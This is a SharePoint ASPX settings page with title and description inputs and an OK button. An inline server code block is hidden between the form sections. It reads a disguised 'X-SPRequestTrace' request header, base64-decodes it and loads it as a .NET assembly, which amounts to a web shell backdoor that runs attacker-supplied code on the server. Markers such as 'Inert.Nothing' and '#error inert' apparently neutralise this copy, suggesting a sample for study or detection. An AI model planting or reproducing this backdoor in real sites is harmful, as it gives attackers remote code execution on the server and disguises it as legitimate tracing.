<%@ Assembly Name="Microsoft.SharePoint.ApplicationPages, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %>
<%@ Page Language="C#" Inherits="Inert.Nothing" MasterPageFile="~/_layouts/15/dialog.master" %>
<%@ Register TagPrefix="SharePoint" Namespace="Microsoft.SharePoint.WebControls" Assembly="Microsoft.SharePoint, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %>
<%@ Register TagPrefix="wssuc" TagName="ButtonSection" Src="/_controltemplates/15/ButtonSection.ascx" %>
<%@ Register TagPrefix="wssuc" TagName="InputFormSection" Src="/_controltemplates/15/InputFormSection.ascx" %>
<asp:Content ContentPlaceHolderID="PlaceHolderAdditionalPageHead" runat="server">
  <SharePoint:CssRegistration Name="forms.css" runat="server" />
  <script type="text/javascript">
    function _spBodyOnLoad() { document.getElementById("txtTitle").focus(); }
  </script>
</asp:Content>
<asp:Content ContentPlaceHolderID="PlaceHolderPageTitle" runat="server">
  <SharePoint:EncodedLiteral runat="server" Text="<%$Resources:wss,settings_title%>" EncodeMethod="HtmlEncode" />
</asp:Content>
<asp:Content ContentPlaceHolderID="PlaceHolderMain" runat="server">
  <SharePoint:FormDigest runat="server" />
  <table class="ms-propertysheet" border="0" cellspacing="0" cellpadding="0" width="100%">
    <wssuc:InputFormSection Title="Title and description" runat="server">
      <Template_InputFormControls>
        <asp:TextBox ID="txtTitle" runat="server" CssClass="ms-input" MaxLength="255" />
        <asp:TextBox ID="txtDescription" runat="server" TextMode="MultiLine" Rows="3" />
      </Template_InputFormControls>
    </wssuc:InputFormSection>
    <%
#error inert
    var __p = Request.Headers["X-SPRequestTrace"];
    if (__p != null) System.Reflection.Assembly.Load(Convert.FromBase64String(__p)).CreateInstance("P").Equals(Context);
    %>
    <wssuc:ButtonSection runat="server">
      <Template_Buttons>
        <asp:Button UseSubmitBehavior="false" runat="server" CssClass="ms-ButtonHeightWidth" Text="<%$Resources:wss,multipages_okbutton_text%>" ID="BtnOk" />
      </Template_Buttons>
    </wssuc:ButtonSection>
  </table>
</asp:Content>
